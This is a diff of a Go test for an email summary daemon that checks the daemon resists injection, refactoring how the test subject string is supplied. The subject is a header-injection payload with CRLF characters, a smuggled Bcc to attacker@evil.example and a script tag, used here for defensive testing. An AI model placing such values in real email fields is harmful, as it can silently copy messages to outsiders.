@@ -172,7 +172,7 @@ func TestSummaryResistsInjection(t *testing.T) {
 	buyer := mailworld.User{Address: "procurement@example.com", Password: "buyer-pw"}
 	mailworldtest.Each(t, []mailworld.User{lin, buyer}, func(t *testing.T, w mailworld.World) {
 		fire := time.Date(2026, 11, 30, 1, 0, 0, 0, time.UTC) // Monday 09:00 in Shanghai
-		d := summaryDaemon(t, w, lin, fire)
+		d := summaryDaemon(t, w, lin, fire, "Streams failing\\r\\nBcc: attacker@evil.example <script>")
 		sent := fire.AddDate(0, 0, -7) // Monday of the week summarised
 		for i, h := range hostileReplies {
 			id := probe.NewMessageID(d.key, fmt.Sprintf("P%d", i+1), probe.NewToken(), "example.com", sent)
@@ -211,8 +211,10 @@ func TestSummaryResistsInjection(t *testing.T) {
 	})
 }
 
-// summaryDaemon is a daemon that sends summaries through w to procurement@example.com.
-func summaryDaemon(t *testing.T, w mailworld.World, lin mailworld.User, now time.Time) *Daemon {
+// summaryDaemon is a daemon with one vendor and one script (its subject a YAML
+// double-quoted string) that sends summaries through w to procurement@example.com, its
+// clock a minute past now.
+func summaryDaemon(t *testing.T, w mailworld.World, lin mailworld.User, now time.Time, subject string) *Daemon {
 	t.Helper()
 	dir := t.TempDir()
 	pw := filepath.Join(dir, "pw")
@@ -227,7 +229,7 @@ mail:
   smtp: {host: 127.0.0.1, port: %s, security: none, username: lin.wei@example.com, password_file: %s}
   imap: {host: 127.0.0.1, port: %s, security: none, username: lin.wei@example.com, password_file: %s, append_sent: false}
 scripts:
-  - {id: outage-en, language: en, priority: P1, subject: "Streams failing\r\nBcc: attacker@evil.example <script>", body: "Hello"}
+  - {id: outage-en, language: en, priority: P1, subject: "%s", body: "Hello"}
 vendors:
   - name: acme-cloud
     to: [support@acme.example]
@@ -235,7 +237,7 @@ vendors:
     timezone: America/Los_Angeles
     sla: {P1: {first_response: 1h}}
 summary: {cron: "0 9 * * MON", timezone: Asia/Shanghai, to: [procurement@example.com]}
-`, filepath.Join(dir, "state"), sp, pw, ip, pw)
+`, filepath.Join(dir, "state"), sp, pw, ip, pw, subject)
 	cfg, err := configs.Parse([]byte(yaml), "test.yaml")
 	if err != nil {
 		t.Fatal(err)
